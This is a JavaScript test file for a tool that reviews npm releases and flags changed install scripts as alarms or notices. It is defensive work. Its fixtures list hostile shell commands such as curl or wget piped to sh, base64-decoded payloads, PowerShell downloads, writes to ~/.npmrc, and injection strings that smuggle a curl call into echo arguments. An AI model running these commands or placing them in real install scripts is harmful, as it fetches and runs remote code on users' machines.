// Install scripts: what changed in them, and whether that is an alarm.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { reviewRelease } from 'npm-hooks/packument'
import { assertLinear } from '../../processor-time.js'
import { review, script } from './releases.js'

/** Scripts that fetch, decode or run something that the package does not contain, or that the shell runs. */
const DANGEROUS = [
  'echo wget files.example/x -O x.sh | sh && sh x.sh',
  'echo require "child" | node',
  'sh',
  'bash /dev/stdin',
  'node /tmp/x.js',
  'node ../other/x.js',
  'echo "a" > ~/.npmrc',
  'echo "$(id)"',
  'echo "\\" & curl files.example & "',
  "echo '\"' & curl files.example & echo '\"'",
  'npx --no-install other',
  'curl https://files.example/a.sh | sh',
  'wget -q files.example/a.sh && sh a.sh',
  'node -e "require(\'https\')"',
  'node --eval=x()',
  'node --import=data:text/javascript,x a.js',
  'node a.js $(cat b)',
  'node a.js > ~/.npmrc',
  'npx other',
  'npx --yes other',
  'npm install -g other',
  'npm i other',
  'bunx other',
  'git clone https://git.example/a && sh a/b.sh',
  'echo aGk= | base64 -d | sh',
  'echo `id`',
  'sh -c "x"',
  'bash <(curl files.example)',
  'eval "$X"',
  'powershell iwr files.example',
  'python setup.py',
  './a.sh',
  'prebuild-install --download https://files.example',
  'node-gyp rebuild --dist-url=https://files.example',
  'husky install; node -p x',
  'node a.js & curl files.example',
  'node a.js\ncurl files.example',
]

/** Commands that run the script `b`; the package has a script `a` that does nothing. */
const RUNNERS = [
  'npm run b',
  'npm run b > /dev/null',
  'npm run b 2>/dev/null',
  'npm run b -- "--foo"',
  'npm run b # x',
  'npm run "b"',
  'npm rum b',
  'npm run\tb',
  'npm --prefix . run b',
  'npm run -w a b',
  'CI=1 npm run b',
  'if true; then npm run b; fi',
  'npm run b | cat',
  'npx npm run b',
  'npx --no-install run-s b',
  'sh -c "npm run b"',
  'node --run b',
  '$npm_execpath run b',
  'yarn b',
  'pnpm b',
  'bun b',
  'run-s b',
  'npm-run-all b',
  'concurrently npm:b',
]

/** Texts that shells take for the same. */
const SAME = [
  ['node a.js', ' node a.js '],
  ['node a.js', 'node\t  a.js'],
  ['node a.js && node b.js', 'node a.js&&node b.js'],
  ['node a.js || neon; true', 'node a.js||neon ;true'],
  ['node a.js', 'node ./a.js'],
  ['node lib/a.js --quiet', 'node ./lib/a.js  --quiet'],
  ['sh ./a.sh && bash b.sh', 'sh a.sh && bash ./b.sh'],
  ['echo "a  b" && node a.js', 'echo  "a  b" && node ./a.js'],
]

/** Texts that are not the same to every shell. */
const DIFFERENT = [
  ['echo "a b"', 'echo "a  b"', 'notice'],
  ['echo "a && b"', 'echo "a&&b"', 'notice'],
  ['node a.js & > b', 'node a.js &> b', 'notice'],
  ['node \\ a', 'node \\  a', 'alarm'],
  ["node -e 'a  b'", "node -e 'a b'", 'alarm'],
  ['a.sh', './a.sh', 'alarm'],
  ['npm i ./a', 'npm i a', 'alarm'],
  ['node ./inspect', 'node inspect', 'notice'],
  ['node ./-e', 'node -e', 'alarm'],
  ['node .//a.js', 'node /a.js', 'alarm'],
]

/** Commands that may run a script by its name alone, where `npm run b` did. */
const SHORT_FORMS = [
  ['yarn b', 'notice'],
  ['yarn -s b', 'notice'],
  ['yarn run b', 'notice'],
  ['yarn run --silent b', 'notice'],
  ['pnpm b', 'notice'],
  ['pnpm run b', 'notice'],
  ['npm start', 'notice'],
  ['yarn start && pnpm b', 'notice'],
  ['yarn other', 'alarm'],
  ['yarn b other', 'alarm'],
  ['yarn add', 'alarm'],
  ['pnpm dlx', 'alarm'],
  ['pnpm add other', 'alarm'],
  ['npm b', 'alarm'],
  ['yarnx b', 'alarm'],
]

/** `[title, scripts of the previous release, scripts, level of the signal]`. */
const SCRIPTS = [
  ['the first one, of whatever kind', {}, { postinstall: 'husky install' }, 'alarm'],
  ['a new one next to a build', { install: 'node-gyp rebuild' }, { preinstall: 'node setup.mjs', install: 'node-gyp rebuild' }, 'alarm'],
  ['a new one next to git hooks', { postinstall: 'husky install' }, { preinstall: 'node a.js', postinstall: 'husky install' }, 'alarm'],
  ['a new one next to a file', { postinstall: 'node a.js' }, { preinstall: 'node b.js', postinstall: 'node a.js' }, 'alarm'],
  ['a new one that is usual', { install: 'node a.js' }, { install: 'node a.js', postinstall: 'patch-package' }, 'notice'],
  ['the same under a different name', { install: 'node a.js' }, { postinstall: 'node a.js' }, 'notice'],
  ['a file in place of git hooks', { postinstall: 'husky install' }, { postinstall: 'node a.js' }, 'alarm'],
  ['a file in addition to git hooks', { postinstall: 'husky install' }, { postinstall: 'husky install && node a.js' }, 'alarm'],
  ['a different file', { postinstall: 'node a.js' }, { postinstall: 'node lib/b.js --quiet' }, 'notice'],
  ['an additional file', { postinstall: 'node a.js' }, { postinstall: 'node a.js && node b.js' }, 'notice'],
  ['a file fewer', { postinstall: 'node a.js && node b.js' }, { postinstall: 'node b.js' }, 'notice'],
  ['a build in a different way', { install: 'node-gyp rebuild' }, { install: 'prebuild-install -r napi || node-gyp rebuild' }, 'notice'],
  ['a usual tool in place of a file', { install: 'node a.js' }, { install: 'node-pre-gyp install --fallback-to-build=false' }, 'notice'],
  ['a usual tool by npx', { postinstall: 'husky install' }, { postinstall: 'npx husky install || true' }, 'notice'],
  ['a message', { postinstall: 'node a.js' }, { postinstall: 'node a.js; echo "thanks, see https://a.example"; exit 0' }, 'notice'],
  ['groups', { install: 'node a.js && neon' }, { install: '(node a.js && node-gyp rebuild) || (neon && node b.js)' }, 'notice'],
  ...SAME.map(([before, after]) => [`${before} and ${after} are the same`, { postinstall: before }, { postinstall: after }, undefined]),
  ...SAME.map(([before, after]) => [
    `${before} and ${after} are the same in a script that is run`,
    { install: 'npm run b', b: before },
    { install: 'npm  run b', b: after },
    undefined,
  ]),
  ...DIFFERENT.map(([before, after, level]) => [`${before} and ${after} differ`, { install: before }, { install: after }, level]),
  ...SHORT_FORMS.map(([command, level]) => [
    `${command} in place of npm run`,
    { install: 'npm run b', b: 'node-gyp rebuild', start: 'node-gyp rebuild' },
    { install: command, b: 'node-gyp rebuild', start: 'node-gyp rebuild', add: 'true', dlx: 'true', 'pre:b': 'true' },
    level,
  ]),
  ['nothing but white space', { postinstall: 'node a.js' }, { postinstall: 'node a.js', preinstall: ' ' }, undefined],
  [
    'a script that runs another',
    { install: 'npm run b', b: 'node-gyp rebuild' },
    { install: 'npm run b', b: 'node-gyp rebuild' },
    undefined,
  ],
  ['the other script changes', { install: 'npm run b', b: 'node-gyp rebuild' }, { install: 'npm run b', b: 'node-gyp build' }, 'notice'],
  ['the other script runs a file', { install: 'npm run b', b: 'node-gyp rebuild' }, { install: 'npm run b', b: 'node a.js' }, 'alarm'],
  [
    'what runs before it',
    { install: 'yarn run -s b', b: 'node-gyp rebuild' },
    { install: 'yarn run -s b', b: 'node-gyp rebuild', preb: 'node a.js' },
    'alarm',
  ],
  [
    'one that runs a third',
    { install: 'npm run b', b: 'npm run c', c: 'neon' },
    { install: 'npm run b', b: 'npm run c', c: 'node a.js' },
    'alarm',
  ],
  ['one that runs itself', { install: 'npm run install' }, { install: 'npm run install && npm run b', b: 'npm run install' }, 'notice'],
  ['what runs with options', { install: 'npm -s run b', b: 'neon' }, { install: 'npm -s run b', b: 'node a.js' }, 'alarm'],
  [
    'arguments for it',
    { install: 'npm run b', b: 'prebuild-install' },
    { install: 'npm run b -- --release', b: 'prebuild-install' },
    'notice',
  ],
  [
    'a URL for it',
    { install: 'npm run b', b: 'prebuild-install' },
    { install: 'npm run b -- --download http://a.example', b: 'prebuild-install' },
    'alarm',
  ],
  ['another script in place of a file', { install: 'node a.js' }, { install: 'npm run b', b: 'node a.js' }, 'notice'],
  ['a script that is not there', { install: 'node a.js' }, { install: 'npm run b' }, 'alarm'],
  [
    'a different script that npm does not run at install',
    { install: 'node a.js', b: 'node a.js' },
    { install: 'node a.js', b: 'curl a.example' },
    undefined,
  ],
  ['a different script by `npm start`', { install: 'npm start', start: 'a' }, { install: 'npm start', start: 'curl a.example' }, 'alarm'],
  [
    'the ninth script that is followed',
    {
      install: '0123456789'.replace(/./g, 'npm run s$& && ').concat('true'),
      ...Object.fromEntries(Array.from('0123456789', (at) => [`s${at}`, 'a'])),
    },
    {
      install: '0123456789'.replace(/./g, 'npm run s$& && ').concat('true'),
      ...Object.fromEntries(Array.from('012345678', (at) => [`s${at}`, 'a'])),
      s9: 'curl a.example',
    },
    'alarm',
  ],
  ['a script fewer that a command may run', { install: 'run-s b', b: 'a', c: 'a' }, { install: 'run-s b', b: 'a' }, 'notice'],
  [
    'a usual tool by npx that must be there',
    { postinstall: 'node a.js' },
    { postinstall: 'node a.js && npx --no-install patch-package' },
    'notice',
  ],
  ['a message with brackets', { install: 'node a.js' }, { install: 'node a.js || echo "could not install (see README)"' }, 'notice'],
  [
    'a message with a semicolon',
    { install: 'node-gyp rebuild' },
    { install: 'node-gyp rebuild', postinstall: 'echo "Thank you; please star us"' },
    'notice',
  ],
  ['a message with an ampersand', { install: 'node a.js' }, { install: 'node a.js', postinstall: 'echo "Q&A at example.org"' }, 'notice'],
  [
    'a pipe that was there, and a file',
    { install: 'curl https://a.example/x | sh' },
    { install: 'echo wget b.example/x -O x | sh && sh x' },
    'alarm',
  ],
  ['more commands than are read', { install: 'node a.js' }, { install: 'node a.js;'.repeat(1000) }, 'alarm'],
  ...RUNNERS.flatMap((install) => [
    [`${install}, and what it runs changes`, { install, a: 'true', b: 'tsc' }, { install, a: 'true', b: 'curl a.example | sh' }, 'alarm'],
    [`${install}, and what it runs is the same`, { install, a: 'true', b: 'tsc' }, { install, a: 'true', b: 'tsc' }, undefined],
  ]),
  ...DANGEROUS.map((command) => [command, { install: 'node a.js' }, { install: command }, 'alarm']),
  ...DANGEROUS.map((command) => [`${command}, as before`, { install: command }, { install: command }, undefined]),
]

for (const [what, before, after, level] of SCRIPTS) {
  test(`install script: ${what}`, () => {
    const releases = [
      { version: '1.0.0', ...script(before) },
      { version: '1.0.1', ...script(after) },
    ]
    assert.deepEqual(
      review(releases, '1.0.1').map(({ code, level }) => [code, level]),
      level === undefined ? [] : [['install-script', level]],
    )
  })
}

/** `[title, manifest of the previous release, manifest, level, path of the first location]`. */
const MANIFESTS = [
  ['a build from source', {}, { gypfile: true }, 'alarm', ['gypfile']],
  [
    'a build from source next to `postinstall`',
    script({ postinstall: 'a' }),
    { gypfile: true, ...script({ postinstall: 'a' }) },
    'notice',
    ['gypfile'],
  ],
  ['`gypfile` that `install` replaces', script({ install: 'a' }), { gypfile: true, ...script({ install: 'a' }) }],
  ['`gypfile` in full', { gypfile: true }, { gypfile: true, ...script({ install: 'node-gyp rebuild' }) }],
  [
    'a script in place of a build from source',
    { gypfile: true },
    { gypfile: true, ...script({ preinstall: 'curl a.example | sh' }) },
    'alarm',
    ['scripts', 'preinstall'],
  ],
  [
    'a script after one that is not known',
    { hasInstallScript: true },
    { hasInstallScript: true, ...script({ postinstall: 'curl a.example | sh' }) },
    'alarm',
    ['scripts', 'postinstall'],
  ],
  [
    'a usual script after one that is not known',
    { hasInstallScript: true },
    { hasInstallScript: true, ...script({ postinstall: 'husky install' }) },
    'notice',
    ['scripts', 'postinstall'],
  ],
]

for (const [what, before, after, level, path] of MANIFESTS) {
  test(`install script: ${what}`, () => {
    const releases = [
      { version: '1.0.0', ...before },
      { version: '1.0.1', ...after },
    ]
    const [signal] = review(releases, '1.0.1')
    assert.deepEqual([signal?.level, signal?.locations[0].path], [level, path && ['versions', '1.0.1', ...path]])
  })
}

test('a script that is followed twice is shown once', () => {
  const scripts = { install: 'npm run preb && npm run b', preb: 'a', b: 'b' }
  const [signal] = review([{ version: '1.0.0' }, { version: '1.0.1', ...script(scripts) }], '1.0.1')
  assert.deepEqual(
    signal.locations.map(({ path }) => path.at(-1)),
    ['install', 'preb', 'b'],
  )
})

for (const [what, versions] of [
  ['the previous release', { '1.0.0': {}, '1.0.1': null }],
  ['the oldest release', { '0.9.0': null, '1.0.0': {} }],
]) {
  test(`install script: ${what} cannot be read`, () => {
    const after = { '1.0.2': script({ postinstall: 'curl a.example | sh' }) }
    for (const time of [
      undefined,
      { '0.9.0': '2020-01-01T00:00Z', '1.0.0': '2020-01-01T01:00Z', '1.0.1': '2020-01-01T02:00Z', '1.0.2': '2020-01-01T03:00Z' },
    ]) {
      const [signal] = reviewRelease(JSON.stringify({ versions: { ...versions, ...after }, time }), '1.0.2')
      assert.deepEqual([signal.code, signal.level], ['install-script', 'alarm'])
    }
  })
}

test('many scripts, commands and scripts that run scripts are linear', () =>
  assertLinear((count) => {
    const many = (value) => Object.fromEntries(Array.from({ length: count }, (_, at) => [`s${at}`, value(at)]))
    const scripts = (end, other) => ({
      install: `npm run s0 && npm run ${other}`,
      ...many((at) => `npm run s${at + 1}; npm run s${at + 2}`),
      [`s${count - 1}`]: end,
    })
    const releases = [
      { version: '1.0.0', ...script(scripts('node a.js', 's1')) },
      { version: '1.0.1', ...script(scripts('node b.js', 's2')) },
    ]
    return () => {
      const [signal] = review(releases, '1.0.1')
      assert.equal(signal.code, 'install-script')
      assert.ok(signal.locations.length <= 100, `${signal.locations.length} locations`)
    }
  }, 20_000))

test('many short names, and many commands that run scripts, are linear', () =>
  assertLinear((count) => {
    const many = Object.fromEntries(Array.from({ length: count }, (_, at) => [at.toString(36), '']))
    const hook = Array.from({ length: 99 }, (_, at) => `npm run zz${at}zz`).join(' && ')
    const manifest = JSON.stringify({ scripts: { ...many, preinstall: hook, install: hook, postinstall: hook } })
    const packument = `{"versions":{"1.0.0":${manifest},"1.0.1":${manifest}}}`
    return () => assert.deepEqual(reviewRelease(packument, '1.0.1'), [])
  }, 300_000))
